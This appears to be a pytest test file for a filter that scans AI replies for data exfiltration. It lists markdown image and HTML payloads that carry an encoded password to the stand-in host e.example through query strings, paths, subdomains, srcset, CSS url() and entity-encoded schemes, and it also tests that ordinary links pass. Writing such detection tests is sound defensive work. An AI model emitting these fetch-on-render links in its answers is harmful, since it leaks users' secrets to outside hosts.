"""What carries data away in an answer is found in each form that a reader's program fetches, and among many others."""

import pytest

from defender.engine.replies import assess
from runtime.vocab import Decision
from tests.defender.growth import calls

DATA = "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI"

FETCHED = [
    f"![a](HTTPS://e.example/?d={DATA})",
    f"![a](//e.example/p.png?d={DATA})",
    f"![a](ftp://e.example/?d={DATA})",
    f"![a[b]c](https://e.example/?d={DATA})",
    f"![a\nb](https://e.example/?d={DATA})",
    f"![a](           https://e.example/?d={DATA})",
    f"![a][x]\n\n> [x]: https://e.example/?d={DATA}",
    f'<div style="background:url(https://e.example/?d={DATA})">',
    f'<img srcset="https://e.example/?d={DATA} 2x">',
    f'<img alt="a>b" src="https://e.example/?d={DATA}">',
    f'<img src  =  "https://e.example/?d={DATA}">',
    f'<img src="&#104;ttps://e.example/?d={DATA}">',
    f'<image href="https://e.example/?d={DATA}">',
    f"<input type=image src=https://e.example/?d={DATA}>",
    "![a](https://e.example/?a=VGhlIHBhc3N3&b=b3JkIGlzIGh1&c=bnRlcjI)",
    "![a](https://e.example/VGhlIHBhc3N3b3Jk/IGlzIGh1bnRlcjI)",
    "![a](https://vghlihbhc3n3.b3jkiglzigh1.bnrlcji.e.example/p.png)",
]


@pytest.mark.parametrize("text", FETCHED)
def test_what_is_fetched_when_it_is_shown_is_blocked(text: str) -> None:
    assert assess(text).decision is Decision.BLOCK


@pytest.mark.parametrize("text", [f"https://e.example/?d={DATA}", f"<https://e.example/?d={DATA}>"])
def test_a_bare_address_is_a_link(text: str) -> None:
    assert assess(text).signals[0].rule == "reply.link-data"


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://docs.example/assets/logo.png)",
        "see https://docs.example/how-to/install.html#linux",
        "![build](https://ci.example/badges/main/pipeline.svg?branch=main)",
        "// a comment in code\nint x = 1; // and one more",
        "<p>2 < 3 && 4 > 3</p>",
        "https://shop.example/orders?page=2&sort=newest",
        "https://code.example/ann/tool/issues/12345",
    ],
)
def test_everyday_addresses_are_let_out(text: str) -> None:
    assert assess(text).decision is Decision.ALLOW


def test_one_among_many_is_found() -> None:
    many = "![x](https://docs.example/a.png)\n" * 300
    assert assess(many + FETCHED[0]).decision is Decision.BLOCK
    assert assess(many * 8 + FETCHED[0]).decision is not Decision.ALLOW


@pytest.mark.parametrize("text", ["![", "![[a", "<x src=", "<x " + "src=" * 140, "[a]:", "https://", "&#", "//a" * 9])
def test_twice_the_answer_is_about_twice_the_work(text: str) -> None:
    half, whole = ((text * 16_384)[:length] for length in (8_192, 16_384))
    assert calls(lambda: assess(whole)) < 3 * calls(lambda: assess(half)) + 1_000
